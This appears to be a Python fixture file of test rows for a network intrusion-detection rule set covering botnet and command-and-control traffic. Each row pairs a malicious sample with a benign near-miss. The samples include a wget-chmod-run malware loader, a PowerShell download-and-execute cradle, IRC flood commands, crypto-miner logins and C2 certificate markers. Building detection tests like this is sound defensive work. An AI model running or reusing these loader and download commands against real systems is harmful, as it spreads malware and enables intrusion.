"""Rows for bot-c2.rules."""
import struct

from .steps import S, OUTSIDE, agent, dns, get, header, http, page, ping, post, response, s, talk, tls, dgram

IE11 = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
SESSION = "session=" + "Z0Bk54exnUQv49+1gu8QCI+voU8="
PE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@" + b"\0" * 35 + b"\x80\0\0\0" + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 7 + b"PE\0\0L\1" + b"\0" * 200
EXE = dict(answer=response(PE, ctype="application/octet-stream"))


def hello(ciphers, extensions):
    """A ClientHello with these ciphers and extensions in this order (JA3 depends on nothing else here)."""
    suites = b"".join(struct.pack(">H", c) for c in ciphers)
    parts = b"".join(struct.pack(">HH", t, len(d)) + d for t, d in extensions)
    body = b"\x03\x01" + b"\x11" * 32 + b"\0" + struct.pack(">H", len(suites)) + suites + b"\1\0" + struct.pack(">H", len(parts)) + parts
    handshake = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + struct.pack(">H", len(handshake)) + handshake


WINDOWS = hello((47, 53, 5, 10, 49171, 49172, 49161, 49162, 50, 56, 19, 4), [(65281, b"\0"), (10, b"\0\4\0\x17\0\x18"), (11, b"\1\0")])
LOADER = "cd /tmp; wget http://198.51.100.7/mips; chmod 777 mips; ./mips\nwget http://198.51.100.7/arm7; chmod 777 arm7; ./arm7\n"
RIG = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9","pass":"x","agent":"XMRig/6.16"}}\n'
TABLE = [
    (300, get("/admin/get.php", headers=[("Cookie", SESSION), ("User-Agent", IE11)]), get("/admin/get.php", headers=[("Cookie", "session=abc"), ("User-Agent", IE11)])),
    (301, get("/login/status.php", headers=[("Cookie", SESSION), ("User-Agent", "Mozilla/5.0 (Windows NT 10.0)")]), get("/login/status.php", headers=[("Cookie", SESSION), ("Accept", "*/*"), ("User-Agent", "Mozilla/5.0")])),
    (302, get("/en-us/docs.html?type=644bbc97e9&v=1", headers=[("User-Agent", "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36")]), get("/en-us/windows/docs.html?type=1&v=1", headers=[("User-Agent", "Mozilla/5.0 (Windows NT 6.1) Chrome/41.0.2228.0")])),
    (303, get("/ca", headers=[("Cookie", "A" * 171 + "="), ("User-Agent", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)")]), get("/ca", headers=[("Cookie", "sid=" + "A" * 60), ("User-Agent", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)")])),
    (304, http("POST /submit.php?id=24117", headers=[("Content-Type", "application/octet-stream")], body=b"\0\0\0\x30" + b"x" * 48), post("/submit.php?id=abc", "x=1")),
    (305, tls("/C=US/ST=Cyberspace/L=Somewhere/O=cobaltstrike/OU=AdvancedPenTesting/CN=Major Cobalt Strike"), tls("/O=Cobalt Mining/CN=cobalt.example")),
    (307, tls("/C=US/ST=RI/O=Kozey, Lowe and Toy/OU=auxiliary/CN=kozey.lowe.toy.io"), tls("/C=US/ST=RI/O=Lowe, Baker and Toy/CN=www.shop.example")),
    (308, talk(4444, s(struct.pack("<I", 200000) + b"MZ\xe8\0\0\0\0[RE" + b"\0" * 200)), talk(4444, s(struct.pack("<I", 200000) + b"MZ\x90\0\3" + b"\0" * 200))),
    (309, tls("/CN=AsyncRAT Server", port=6606), tls("/CN=Async Server", port=6606)),
    (310, tls("/C=GB/ST=London/L=London/O=Global Security/OU=IT Department/CN=example.com"), tls("/C=GB/O=Global Security/OU=Sales/CN=www.shop.example")),
    (311, http("POST /OK21pqJAtyyG", host="10.77.0.80:7080", port=7080, headers=[("Referer", "http://10.77.0.80/OK21pqJAtyyG")], form="OK21pqJAtyyG=" + "U6yKuycpyrtW" * 20), http("POST /login", host="10.77.0.80:7080", port=7080, headers=[("Referer", "http://10.77.0.80/OK21pqJAtyyG")], form="user=a&pass=b")),
    (312, get("/video/6JvA8/", response(PE, ctype="application/x-msdownload", headers=[("Set-Cookie", "6a2=1"), ("Content-Disposition", 'attachment; filename="yr8Gd2kQ.dll"')])), get("/setup/", response(PE, ctype="application/x-msdownload", headers=[("Content-Disposition", 'attachment; filename="setup 1.2.exe"')]))),
    (313, talk(18443, WINDOWS), talk(443, WINDOWS)),
    (314, tls("/C=US/ST=CA/L=San Jose/O=Ubiquiti Networks Inc./OU=Technical Support/CN=UBNT-24:A4:3C:92:86:E7", host=OUTSIDE), tls("/C=US/ST=CA/L=San Jose/O=Ubiquiti Networks Inc./OU=Technical Support/CN=UBNT-24:A4:3C:92:86:E7")),
    (315, talk(6667, "NICK [USA|XP|0]-842913\r\nUSER x x x :x\r\n"), talk(6667, "NICK alice1984\r\nUSER a a a :Alice\r\n")),
    (316, talk(6667, "NICK a\r\n", s(":op!o@h PRIVMSG #c :.udp 198.51.100.9 80 60\r\n")), talk(6667, "NICK a\r\n", s(":op!o@h PRIVMSG #c :.update your clients please\r\n"))),
    (317, talk(23, LOADER), talk(23, "wget http://www.shop.example/manual.pdf\n")),
    (319, talk(6999, "BUILD X86\n", s("!* UDP 198.51.100.9 80 60 32 0 10\n")), talk(6999, "BUILD\n", s("!* hello\n"))),
    (320, talk(5552, "149\x00ll|'|'|SGFjS2VkXzg4QzRE|'|'|PC|'|'|bob"), talk(5552, "149\x00lx|'|'|SGFjS2VkXzg4QzRE")),
    (321, talk(8001, b"Gh0st" + struct.pack("<II", 100, 200) + b"\x78\x9c" + b"x" * 85), talk(8001, b"Gh0st" + struct.pack("<II", 100, 200) + b"\x00\x00" + b"x" * 85)),
    (322, talk(1337, PE), talk(1337, b"MZ " + b"ordinary text " * 20)),
    (323, talk(33333, "#!/bin/sh\nid\n"), talk(33333, "# !/bin/sh is a path\n")),
    (324, talk(4445, s("powershell.exe -nop -w hidden -e " + "SQBFAFgA" * 20 + "\n")), talk(4445, s("powershell.exe -file backup.ps1\n"))),
    (325, page("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", "text/plain"), page("INDEX (New-Object) of commands", "text/plain")),
    (327, dns("www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"), dns("www.iuqerfsodp9.example")),
    (328, dns("pool.minexmr.com"), dns("www.mine.example")),
    (329, talk(3333, RIG), talk(3333, '{"id":1,"method":"login","params":{"user":"bob"}}\n')),
    (330, talk(3334, '{"id":1,"method":"mining.subscribe","params":[]}\n'), talk(3334, '{"id":1,"method":"subscribe","params":["mining"]}\n')),
    (331, http("GET /", host="icanhazip.com", headers=[("User-Agent", "curl/8.0"), ("Accept", "*/*")]), http("GET /", host="icanhazip.com")),
    (332, get("/del83/RIGSBY-WIN-PC_W617601.FA9325860BEDA50F635A6C71B33F8810/90"), get("/del83/RIGSBY_W61/90")),
    (334, dns("expyuzz4wqqyqhjn.onion.to"), dns("onion.shop.example")),
    (335, talk(9998, b"\0\0\0\2\0\0\0\0"), talk(9998, b"\0\0\0\3\0\0\0\0")),
    (336, page(PE, "image/png"), page(b"\x89PNG\r\n\x1a\nMZ This program ", "image/png")),
    (337, get("/a", response(PE, ctype="application/octet-stream", headers=[("Content-Disposition", "attachment; filename=cat.png")])), get("/a", response(PE, ctype="application/octet-stream", headers=[("Content-Disposition", "attachment; filename=cat.exe")]))),
    (338, http("GET /a", host="198.51.100.7", headers=[("User-Agent", "Wget/1.21")], **EXE), http("GET /a", host="www.shop.example", headers=[("User-Agent", "Wget/1.21")], **EXE)),
    (340, http("GET /a.exe", host="198.51.100.7", headers=[("User-Agent", "CertUtil URL Agent")]), http("GET /a.crl", host="www.shop.example", headers=[("User-Agent", "CertUtil URL Agent")])),
    (342, http("POST /fre", headers=[("User-Agent", "Mozilla/4.08 (Charon; Inferno)")], body="x"), http("POST /fre", headers=[("User-Agent", "Mozilla/4.08 [en] (Win98; I)")], body="x")),
    (343, tls("/C=US/ST=Minnesota/L=Minnetonka/O=Pajfds/OU=Jethpro/CN=P18055077"), tls("/O=Plumbers/CN=P1805.example")),
    (344, tls("/CN=Covenant"), tls("/CN=Covenant House")),
    (345, tls("/O=Mythic/CN=localhost"), tls("/O=Mythic Games/CN=play.example")),
    (346, tls("/CN=BitRAT"), tls("/CN=BitRate")),
    (347, tls("/C=XX/ST=1/L=1/O=1/OU=1/CN=*"), tls("/C=XX/O=12/CN=*.shop.example")),
    (348, tls("/C=US/ST=California/O=Microsoft/OU=Security/CN=localhost"), tls("/O=Microsoft/OU=Security/CN=portal.example")),
    (349, get("/", response("ok", headers=[("X-Havoc", "true")])), get("/", response("ok", headers=[("X-Haven", "true")]))),
    (350, post("/poll", body=b"\0\0\0\x40\xde\xad\xbe\xef" + b"x" * 56), post("/poll", body=b"\0\0\0\x40" + b"x" * 56 + b"\xde\xad\xbe\xef")),
    (351, get("/", S(b"HTTP/1.1 200 OK\r\nServer: NimPlant C2 Server\r\nContent-Length: 2\r\n\r\nok")), get("/", S(b"HTTP/1.1 200 OK\r\nServer: Nimble\r\nContent-Length: 2\r\n\r\nok"))),
]
